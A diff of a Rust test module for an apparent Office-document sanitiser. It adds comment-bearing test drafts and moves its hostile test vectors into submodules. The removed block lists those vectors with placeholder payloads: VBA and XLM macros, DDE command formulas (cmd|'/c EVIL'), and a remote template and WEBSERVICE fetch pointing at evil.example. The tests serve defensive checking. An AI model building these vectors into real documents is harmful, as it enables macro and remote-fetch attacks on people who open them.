@@ -3,6 +3,11 @@
 //! one for what is hostile in it and for nothing else.
 #![allow(clippy::unwrap_used, clippy::indexing_slicing)] // tests stop at the first surprise
 
+mod package;
+mod sheet;
+mod slides;
+mod word;
+
 use crate::sanitise::{Kind, What};
 
 pub(super) const SENTENCE: &str = "見積書の本文です。";
@@ -31,7 +36,7 @@ pub(super) struct Draft {
 
 /// A hostile draft: what must be reported, and what must not be in the output.
 pub(super) struct Vector {
-    pub(super) name: &'static str,
+    pub(super) name: String,
     pub(super) draft: Draft,
     pub(super) what: What,
     pub(super) gone: &'static [&'static str],
@@ -96,7 +101,8 @@ impl Draft {
             "{HEAD}<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
              <Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
              <Default Extension=\"xml\" ContentType=\"application/xml\"/>\
-             <Default Extension=\"png\" ContentType=\"image/png\"/>"
+             <Default Extension=\"png\" ContentType=\"image/png\"/>\
+             <Default Extension=\"vml\" ContentType=\"application/vnd.openxmlformats-officedocument.vmlDrawing\"/>"
         );
         for (name, content_type, _) in self.parts.iter().filter(|part| !part.1.is_empty()) {
             types += &format!("<Override PartName=\"/{name}\" ContentType=\"{content_type}\"/>");
@@ -277,82 +283,50 @@ pub(super) fn clean() -> Vec<Draft> {
     ]
 }
 
-/// One vector, one minimal file.
+/// Drafts with one comment of a colleague's each.
+pub(super) fn commented() -> Vec<Draft> {
+    let words = "要確認";
+    let slide = "ppt/slides/slide1.xml";
+    vec![
+        word("<w:p><w:commentRangeStart w:id=\"1\"/><w:r><w:t>x</w:t></w:r><w:commentRangeEnd w:id=\"1\"/><w:r><w:commentReference w:id=\"1\"/></w:r></w:p>")
+            .part("word/comments.xml", "wordprocessingml.comments", &story("comments", &format!("<w:comment w:id=\"1\"><w:p><w:r><w:t>{words}</w:t></w:r></w:p></w:comment>")))
+            .relation("word/document.xml", "comments", "word/comments.xml"),
+        sheet("", "<legacyDrawing r:id=\"rId4\"/>", "")
+            .part("xl/comments1.xml", "spreadsheetml.comments", format!("{HEAD}<comments {S}><commentList><comment ref=\"A1\"><text><t>{words}</t></text></comment></commentList></comments>").as_bytes())
+            .relation("xl/worksheets/sheet1.xml", "comments", "xl/comments1.xml")
+            .part("xl/drawings/vmlDrawing1.vml", "application/vnd.openxmlformats-officedocument.vmlDrawing", b"<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><v:shape id=\"s\"><x:ClientData ObjectType=\"Note\"/></v:shape></xml>")
+            .relation("xl/worksheets/sheet1.xml", "vmlDrawing", "xl/drawings/vmlDrawing1.vml"),
+        slides("", "")
+            .part("ppt/comments/comment1.xml", "presentationml.comments", format!("{HEAD}<p:cmLst {P}><p:cm authorId=\"0\" idx=\"1\"><p:text>{words}</p:text></p:cm></p:cmLst>").as_bytes())
+            .relation(slide, "comments", "ppt/comments/comment1.xml"),
+    ]
+}
+
+/// One vector, one minimal file: every row of the table that is about packages.
 pub(super) fn vectors() -> Vec<Vector> {
-    let vba = "application/vnd.ms-office.vbaProject";
-    let vba_step = "http://schemas.microsoft.com/office/2006/relationships/vbaProject";
-    let ole = "application/vnd.openxmlformats-officedocument.oleObject";
-    let vector = |name, draft, what, gone| Vector {
-        name,
+    let mut all = word::vectors();
+    all.extend(word::fields());
+    all.extend(sheet::vectors());
+    all.extend(slides::vectors());
+    all.extend(package::vectors());
+    all
+}
+
+fn vector(name: &str, draft: Draft, what: What, gone: &'static [&'static str]) -> Vector {
+    Vector {
+        name: name.to_owned(),
         draft,
         what,
         gone,
-    };
-    let document = "word/document.xml";
-    let slide = "ppt/slides/slide1.xml";
-    let nested = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>EVIL</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
-    vec![
-        vector("docm with VBA", word("").typed("application/vnd.ms-word.document.macroEnabled.main+xml")
-            .part("word/vbaProject.bin", vba, b"EVIL").relation(document, vba_step, "word/vbaProject.bin"),
-            What::VbaProject, &["EVIL", "macroEnabled", "vbaProject"]),
-        vector("VBA under another name", word("").part("word/theme/theme1.xml", vba, b"EVIL")
-            .relation(document, vba_step, "word/theme/theme1.xml"), What::VbaProject, &["EVIL"]),
-        vector("pptm with VBA and a macro click", slides("<p:sp><p:nvSpPr><p:cNvPr id=\"3\" name=\"b\"><a:hlinkClick r:id=\"\" action=\"ppaction://macro?name=EVIL\"/></p:cNvPr></p:nvSpPr></p:sp>", "")
-            .typed("application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")
-            .part("ppt/vbaProject.bin", vba, b"EVIL").relation("ppt/presentation.xml", vba_step, "ppt/vbaProject.bin"),
-            What::Action, &["EVIL", "ppaction", "vbaProject"]),
-        vector("xlsm with an XLM sheet", sheet("", "", "<definedNames><definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName></definedNames>")
-            .typed("application/vnd.ms-excel.sheet.macroEnabled.main+xml")
-            .part("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", b"<xm:macrosheet>EVIL</xm:macrosheet>")
-            .relation("xl/workbook.xml", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "xl/macrosheets/sheet1.xml"),
-            What::XlmMacro, &["EVIL", "Auto_Open", "macrosheet", "Macro1"]),
-        vector("remote template", word("").part("word/settings.xml", "wordprocessingml.settings",
-            format!("{HEAD}<w:settings {W}><w:attachedTemplate r:id=\"rId3\"/></w:settings>").as_bytes())
-            .relation(document, "settings", "word/settings.xml")
-            .external("word/settings.xml", "attachedTemplate", "http://evil.example/t.dotm"),
-            What::RemoteTemplate, &["evil.example", "attachedTemplate"]),
-        vector("DDE over runs", word(&field(&["D", "DEA", "UTO c:\\\\EVIL.exe"], "結果")), What::Dde, &["EVIL", "DEA"]),
-        vector("DDE in a simple field", word("<w:p><w:fldSimple w:instr=\"DDE EVIL x\"><w:r><w:t>結果</w:t></w:r></w:fldSimple></w:p>"), What::Dde, &["EVIL"]),
-        vector("code computed by a nested field", word(nested), What::FieldCode, &["QUOTE", "EVIL"]),
-        vector("include picture", word(&field(&["INCLUDEPICTURE &quot;http://evil.example/&quot;"], "x")), What::FieldCode, &["evil.example"]),
-        vector("field in a header", word("<w:sectPr><w:headerReference w:type=\"default\" r:id=\"rId2\"/></w:sectPr>")
-            .part("word/header1.xml", "wordprocessingml.header", format!("{HEAD}<w:hdr {W}>{}</w:hdr>", field(&["IMPORT ", "EVIL"], "x")).as_bytes())
-            .relation(document, "header", "word/header1.xml"), What::FieldCode, &["EVIL"]),
-        vector("link field to a file", word(&field(&["HYPERLINK &quot;file://evil.example/x&quot;"], "x")), What::Link, &["evil.example"]),
-        vector("external image", word(&blip("r:link=\"rId2\"")).external(document, "image", "http://evil.example/a.png"), What::ExternalImage, &["evil.example"]),
-        vector("file hyperlink", word("<w:p><w:hyperlink r:id=\"rId2\"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>")
-            .external(document, "hyperlink", "file://evil.example/x"), What::Link, &["evil.example"]),
-        vector("embedded object", word("<w:p><w:r><w:object><v:shape id=\"s\"/><o:OLEObject Type=\"Embed\" ProgID=\"Package\" r:id=\"rId2\"/></w:object></w:r></w:p>")
-            .part("word/embeddings/oleObject1.bin", ole, b"EVIL").relation(document, "oleObject", "word/embeddings/oleObject1.bin"),
-            What::OleObject, &["EVIL", "OLEObject", "embeddings"]),
-        vector("ActiveX", word("<w:p><w:r><w:control r:id=\"rId2\" w:name=\"EVIL\"/></w:r></w:p>")
-            .part("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", b"<EVIL/>").relation(document, "control", "word/activeX/activeX1.xml"),
-            What::Activex, &["EVIL", "activeX"]),
-        vector("alternative format chunk", word("<w:altChunk r:id=\"rId2\"/>").part("word/afchunk.mht", "message/rfc822", b"EVIL")
-            .relation(document, "aFChunk", "word/afchunk.mht"), What::AltChunk, &["EVIL", "altChunk"]),
-        vector("sub-document", word("<w:subDoc r:id=\"rId2\"/>").external(document, "subDocument", "file:///EVIL"), What::ExternalLink, &["EVIL", "subDoc"]),
-        vector("custom ribbon", word("").part("customUI/customUI.xml", "application/xml", b"<customUI onLoad=\"EVIL\"/>")
-            .relation("", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI/customUI.xml"),
-            What::CustomUi, &["EVIL", "customUI"]),
-        vector("data binding", word("<w:sdt><w:sdtPr><w:dataBinding w:xpath=\"EVIL\"/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>"), What::CustomXml, &["EVIL"]),
-        vector("mail merge", word("").part("word/settings.xml", "wordprocessingml.settings",
-            format!("{HEAD}<w:settings {W}><w:mailMerge><w:query w:val=\"EVIL\"/></w:mailMerge></w:settings>").as_bytes())
-            .relation(document, "settings", "word/settings.xml"), What::DataConnection, &["EVIL"]),
-        vector("picture with data behind it", word_with_picture(&[png(), b"EVIL".to_vec()].concat()), What::TrailingData, &["EVIL"]),
-        vector("metafile", word_with_picture(b"\x01\0\0\0EVIL EMF"), What::UnknownPart, &["EVIL", "media"]),
-        vector("formula that fetches", sheet("<c r=\"B1\"><f>_xlfn.WEBSERVICE(&quot;http://evil.example/&quot;)</f><v>7</v></c>", "", ""), What::ActiveFormula, &["evil.example", "WEBSERVICE"]),
-        vector("DDE formula", sheet("<c r=\"B1\"><f>cmd|'/c EVIL'!A0</f><v>7</v></c>", "", ""), What::Dde, &["EVIL"]),
-        vector("formula into another file", sheet("<c r=\"B1\"><f>[1]EVIL!A1</f><v>7</v></c>", "", "<externalReferences><externalReference r:id=\"rId9\"/></externalReferences>"), What::ActiveFormula, &["EVIL", "externalRef"]),
-        vector("object in a sheet", sheet("", "<oleObjects><oleObject progId=\"EVIL\" shapeId=\"1\" r:id=\"rId3\"/></oleObjects>", "")
-            .part("xl/embeddings/oleObject1.bin", ole, b"EVIL").relation("xl/worksheets/sheet1.xml", "oleObject", "xl/embeddings/oleObject1.bin"),
-            What::OleObject, &["EVIL", "oleObject"]),
-        vector("printer settings", sheet("", "<pageSetup r:id=\"rId3\"/>", "").part("xl/printerSettings/printerSettings1.bin", "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings", b"EVIL")
-            .relation("xl/worksheets/sheet1.xml", "printerSettings", "xl/printerSettings/printerSettings1.bin"), What::PrinterSettings, &["EVIL", "printerSettings"]),
-        vector("data connection", sheet("", "", "").part("xl/connections.xml", "spreadsheetml.connections", b"<connections>EVIL</connections>")
-            .relation("xl/workbook.xml", "connections", "xl/connections.xml"), What::DataConnection, &["EVIL", "connections"]),
-        vector("name that calls out", sheet("", "", "<definedNames><definedName name=\"n\">cmd|'/c EVIL'!A0</definedName></definedNames>"), What::ActiveFormula, &["EVIL"]),
-        vector("verb in an animation", slides("", "<p:timing><p:tnLst><p:cmd type=\"verb\" cmd=\"EVIL\"/></p:tnLst></p:timing>"), What::Action, &["EVIL", "p:cmd"]),
-        vector("linked sound", slides("<p:pic><p:nvPicPr><p:nvPr><a:audioFile r:link=\"rId3\"/></p:nvPr></p:nvPicPr></p:pic>", "")
-            .external(slide, "audio", "file:///EVIL.wav"), What::RichMedia, &["EVIL", "audioFile"]),
-    ]
+    }
+}
+
+/// A part of Word's with this root and content.
+fn story(root: &str, content: &str) -> Vec<u8> {
+    format!("{HEAD}<w:{root} {W}>{content}</w:{root}>").into_bytes()
+}
+
+/// A relation type of Microsoft's own.
+fn microsoft(step: &str) -> String {
+    format!("http://schemas.microsoft.com/office/{step}")
 }
